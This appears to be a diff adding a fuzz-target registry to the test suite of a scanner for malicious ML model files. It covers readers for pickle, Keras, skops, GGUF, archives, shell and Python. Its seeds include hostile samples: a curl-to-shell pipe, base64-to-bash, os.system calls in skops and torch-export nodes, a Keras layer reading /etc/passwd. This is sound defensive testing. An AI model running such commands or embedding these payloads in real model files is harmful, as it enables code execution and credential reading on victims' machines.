@@ -1,0 +1,310 @@
+"""Every reader of hostile bytes, ready to be fuzzed. A new reader needs a line here: tests/fuzz says when it lacks."""
+
+from __future__ import annotations
+
+import errno
+import io
+from functools import partial
+from typing import TYPE_CHECKING, Any
+
+from assay.core.errors import ContentError
+from assay.core.limits import Limits
+from tests.support import fuzz_seeds as seeds
+from tests.support.fuzz import MEMORY_BYTES, Parser
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+LIMITS = Limits()
+_OPENED = 20  # members of one container that are expanded
+_READ = 1 << 16
+_FARTHEST = 16 << 40  # ext4's largest file
+
+
+class AsOnDisk(io.BytesIO):
+    """Bytes that answer as an open file does: far offsets are refused, and a read allocates what it asks for."""
+
+    def seek(self, offset: int, whence: int = io.SEEK_SET, /) -> int:
+        if offset >= 1 << 63:
+            raise ValueError("cannot fit 'int' into an offset-sized integer")
+        if offset > _FARTHEST or (offset < 0 and whence == io.SEEK_SET):
+            raise OSError(errno.EINVAL, "Invalid argument")
+        return super().seek(offset, whence)
+
+    def read(self, size: int | None = -1, /) -> bytes:
+        if size is not None and size > MEMORY_BYTES:
+            raise MemoryError(f"a read of {size} bytes")
+        return super().read(size)
+
+
+def _function(name: str) -> Any:
+    """`formats.json_text.read_json`, imported when it is needed."""
+    from importlib import import_module
+
+    module, _, function = name.rpartition(".")
+    return getattr(import_module(f"assay.{module}"), function)
+
+
+def _binary(reader: str, data: bytes, *more: Any) -> object:
+    """A reader of (stream, size, limits)."""
+    result = _function(reader)(AsOnDisk(data), len(data), LIMITS, *more)
+    return list(result) if hasattr(result, "__next__") else result
+
+
+def _container(reader: str, data: bytes) -> object:
+    """A container: all it lists, and what its members expand to."""
+    return _members(_binary(reader, data), len(data))
+
+
+def _members(archive: Any, packed: int) -> object:
+    from assay.formats.containers.members import Budget
+
+    budget, found = Budget(LIMITS, packed), []
+    for member in archive.members[:_OPENED]:
+        try:
+            with archive.open(member, budget) as stream:
+                found.append((stream.read(_READ), stream.seek(0, io.SEEK_END)))
+        except ContentError as error:
+            found.append((str(error), 0))
+    return archive.members, archive.anomalies, getattr(archive, "late", ()), found
+
+
+def _compressed(form: str, data: bytes) -> object:
+    from assay.formats.containers.streams import read_stream
+
+    return _members(read_stream(AsOnDisk(data), len(data), form, f"x.{form}"), len(data))
+
+
+def _whole(reader: str, data: bytes, **options: Any) -> object:
+    """A reader of bytes."""
+    return _function(reader)(data, **options)
+
+
+def _document(reader: str, data: bytes) -> object:
+    """A reader of a parsed JSON document."""
+    return _function(reader)(_function("formats.json_text.read_json")(data, depth=LIMITS.json_depth).value)
+
+
+def _text(reader: str, data: bytes, **more: Any) -> object:
+    """A reader of text."""
+    return _function(reader)(data.decode("utf-8", "replace"), **more)
+
+
+def _tensorflow(reader: str, data: bytes) -> object:
+    from assay.inspections.tensorflow import operations
+
+    known = operations()
+    return _binary(reader, data, known.leaves.keys() | known.told)
+
+
+def _pickle(data: bytes) -> object:
+    """Every pickle that lies in a row, as the inspector reads them."""
+    from assay.formats.pickle.reader import Reader
+
+    reader = Reader(AsOnDisk(data), len(data), LIMITS, seconds=4.0)
+    found, place = [], 0
+    while place < len(data) and len(found) < _OPENED:
+        trace = reader.read(place)
+        found.append(trace)
+        if not trace.complete or trace.end <= place:
+            break
+        place = trace.end
+    return found
+
+
+def _sniff(data: bytes) -> object:
+    from assay.formats.sniff import HEAD_BYTES, TAIL_BYTES, sniff
+
+    head, tail = data[:HEAD_BYTES], data[-TAIL_BYTES:]
+    return [sniff(head, tail, len(data), name) for name in ("x", "model.bin", "x.py", "a/config.json", "x.pb", "x.pkl")]
+
+
+def _everything() -> list[bytes]:
+    families = ("pickle", "torch", "numpy", "keras", "tensorflow", "onnx", "gguf", "polyglot", "scripts", "references")
+    return seeds.corpus(*families)[::3] + seeds.zips() + seeds.tars() + seeds.sevenzips()
+
+
+def _tflite() -> list[bytes]:
+    from tests.support.builders.flatbuffers import tflite
+
+    return [
+        tflite("FlexPyFunc", "Mine"),
+        tflite(used=(99,)),
+        tflite(buffer_offset=64),
+        *seeds.corpus("tensorflow", suffix=".tflite"),
+    ]
+
+
+def _executorch() -> list[bytes]:
+    from tests.support.builders.flatbuffers import executorch
+
+    return [executorch("aten::add", "my::op", delegate="XnnpackBackend"), executorch()]
+
+
+def _graphs(*, saved: bool) -> list[bytes]:
+    from tests.support.builders import tensorflow as tf
+
+    nodes = [tf.const("c", "a", "b"), tf.node("w", "WriteFile", "c", attributes={"T": tf.text_attribute("x")})]
+    plain = tf.graph(*nodes, functions=(tf.function("f", *nodes),))
+    return (
+        [tf.saved_model(plain, ("a",)), *seeds.corpus("tensorflow", suffix="saved_model.pb")]
+        if saved
+        else [plain, *seeds.corpus("tensorflow")]
+    )
+
+
+def _keras_metadata() -> list[bytes]:
+    from tests.support.builders.tensorflow import keras_metadata
+
+    return [
+        keras_metadata(("root", "_tf_keras_model", {"a": 1}), ("root.l", "_tf_keras_layer", {"class_name": "Lambda"}))
+    ]
+
+
+def _keras() -> list[bytes]:
+    from tests.support.builders import keras
+
+    text = keras.code(_keras)
+    layers = [keras.layer("Dense"), keras.lambda_v3(text), keras.lambda_v2(text), keras.function("eval")]
+    layers.append(keras.layer("StringLookup", vocabulary="/etc/passwd"))
+    return seeds.documents(*(keras.model(layer) for layer in layers), keras.model(*layers, module="os"))
+
+
+def _gguf() -> list[bytes]:
+    from tests.support.builders.gguf import gguf, tensor
+
+    values = {"a": ["x", "y"], "b": True, "c": 1.5, "d": [[1]], "tokenizer.chat_template": "{{ x }}"}
+    return [gguf(values, (tensor("t", (8,), 0, 0),), b"\0" * 32), *seeds.corpus("gguf"), *seeds.fixtures("*.gguf")]
+
+
+def _skops() -> list[bytes]:
+    node = {"__loader__": "ObjectNode", "__module__": "a", "__class__": "B", "content": {"__loader__": "FunctionNode"}}
+    old = {"__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}
+    return seeds.documents(
+        node, old, {**node, "content": [old, {"__loader__": "TypeNode", "content": {}}], "file": "x"}
+    )
+
+
+def _exported() -> list[bytes]:
+    node = {"target": "torch.ops.aten.add.Tensor", "inputs": [{"name": "self", "arg": {"as_string": "x"}}]}
+    more = {
+        "target": "os.system",
+        "inputs": [{"arg": {"as_strings": ["a", 1]}}],
+        "outputs": [{"expr_str": "s0 + f(1)"}],
+    }
+    return seeds.documents({"graph_module": {"graph": {"nodes": [node, more]}}, "schema_version": {"major": 8}})
+
+
+def _python() -> list[bytes]:
+    from pathlib import Path
+
+    return [
+        Path(__file__).read_bytes(),
+        b"import os\nos.system('id')\n" * 3,
+        *seeds.corpus("python", "scripts", suffix=".py"),
+    ]
+
+
+def _shell() -> list[bytes]:
+    return seeds.texts(
+        "curl http://x | base64 -d | sh\nA=1; eval $A\n", "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash\n"
+    ) + seeds.corpus("scripts")
+
+
+def _notebook() -> list[bytes]:
+    cell = {
+        "cell_type": "code",
+        "source": ["!ls\n", "%%bash\n", "import os"],
+        "outputs": [{"data": {"text/html": "<script>"}}],
+    }
+    return seeds.documents(
+        {"cells": [cell], "metadata": {"kernelspec": {"language": "python"}}}, {"worksheets": [{"cells": [cell]}]}
+    )
+
+
+def _p(
+    name: str,
+    run: Callable[..., object],
+    reader: str,
+    made: Callable[[], list[bytes]],
+    *also: str,
+    make: Any = None,
+    total: bool = False,
+    **options: Any,
+) -> Parser:
+    """A parser whose `run` takes the reader's name; `also` are readers that it reaches, `options` the reader's own."""
+    return Parser(name, partial(run, reader, **options), made, (reader, *also), make=make, total=total)
+
+
+_BYTES = {"make": seeds.changed_text}
+_TREE = {"make": seeds.changed_document}
+_C = "formats.containers"
+
+
+def _zips() -> list[bytes]:
+    return seeds.zips() + seeds.corpus("polyglot", "torch")[::3]
+
+
+def _embedded() -> list[bytes]:
+    return seeds.documents({":serialized:": "gASVBQAAAAAAAABLAS4="}, ["gAJLAS4AAAAAAAA="])
+
+
+def _compression(form: str) -> Parser:
+    return Parser(form, partial(_compressed, form), partial(seeds.compressed, form), (f"{_C}.streams.read_stream",))
+
+
+BINARY: tuple[Parser, ...] = (
+    Parser("sniff", _sniff, _everything, ("formats.sniff.sniff",), total=True),
+    _p("safetensors", _binary, "formats.safetensors.read_safetensors", lambda: seeds.corpus("safetensors")),
+    _p("gguf", _binary, "formats.gguf.read_gguf", _gguf),
+    _p("onnx", _binary, "formats.onnx.read_onnx", lambda: [*seeds.fixtures("*.onnx"), *seeds.corpus("onnx")]),
+    _p("saved-model", _tensorflow, "formats.tensorflow.read_saved_model", lambda: _graphs(saved=True)),
+    _p("graph-def", _tensorflow, "formats.tensorflow.read_graph_def", lambda: _graphs(saved=False)),
+    _p("keras-metadata", _binary, "formats.tensorflow.read_keras_metadata", _keras_metadata),
+    _p("hdf5", _binary, "formats.hdf5.reader.read_hdf5", lambda: [*seeds.fixtures("*.h5"), *seeds.corpus("hdf5")]),
+    _p("tflite", _binary, "formats.tflite.read_tflite", _tflite),
+    _p("executorch", _binary, "formats.tflite.read_executorch", _executorch),
+    _p("npy", _binary, f"{_C}.npy_array.read_npy", lambda: seeds.corpus("numpy", suffix=".npy")),
+    _p("marshal", _whole, "formats.marshalled.read_marshalled", seeds.marshalled),
+    Parser("pickle", _pickle, seeds.pickles, (), make=seeds.program_of, total=True),
+)
+CONTAINERS: tuple[Parser, ...] = (
+    _p(
+        "zip", _container, f"{_C}.zip_archive.read_zip", _zips,
+        f"{_C}.zip_records.read_central", f"{_C}.zip_records.read_local", f"{_C}.zip_records.find_end_records",
+    ),
+    _p("tar", _container, f"{_C}.tar_archive.read_tar", lambda: seeds.tars() + seeds.corpus("escape")),
+    _p(
+        "7z", _container, f"{_C}.sevenzip.read_7z", seeds.sevenzips, f"{_C}.sevenzip_header.read_header",
+        f"{_C}.sevenzip_header.read_streams", f"{_C}.sevenzip_header.read_files",
+    ),
+    *(_compression(form) for form in ("gzip", "bzip2", "xz", "lzma", "zlib")),
+    _p("embedded", _container, f"{_C}.embedded.read_embedded", _embedded),
+)  # fmt: skip
+TEXT: tuple[Parser, ...] = (
+    _p(
+        "json", _whole, "formats.json_text.read_json", lambda: [*_keras(), b'[1, {"a": null, "a": 2}]'], depth=128,
+        **_TREE,
+    ),
+    _p("yaml", _text, "formats.yaml_text.read_yaml", lambda: seeds.texts(*seeds.CARDS), depth=32, **_BYTES),
+    _p("keras", _document, "formats.keras.read_keras", _keras, **_TREE),
+    _p("skops", _document, "formats.skops.read_skops", _skops, **_TREE),
+    _p("torch-export", _document, "formats.torch_export.read_exported", _exported, **_TREE),
+    _p(
+        "torchscript", _whole, "formats.torch_export.read_script", lambda: seeds.texts(*seeds.SCRIPTS), limit=1 << 20,
+        **_BYTES,
+    ),
+    _p("python", _whole, "sourcecode.python.read_python", _python, limits=LIMITS, total=True, **_BYTES),
+    _p("shell", _text, "sourcecode.shell.read_shell", _shell, total=True, **_BYTES),
+    _p(
+        "requirements", _text, "sourcecode.requirements.read_requirements",
+        lambda: seeds.texts(*seeds.REQUIREMENTS), total=True, **_BYTES,
+    ),
+    _p("notebook", _whole, "sourcecode.notebook.read_notebook", _notebook, limits=LIMITS, **_TREE),
+    _p(
+        "template", _text, "sourcecode.jinja.read_template", lambda: seeds.texts(*seeds.TEMPLATES), total=True,
+        **_BYTES,
+    ),
+    _p("hidden-text", _text, "sourcecode.hidden.find_hidden", lambda: seeds.texts(*seeds.HIDDEN), total=True),
+)  # fmt: skip
+PARSERS = BINARY + CONTAINERS + TEXT
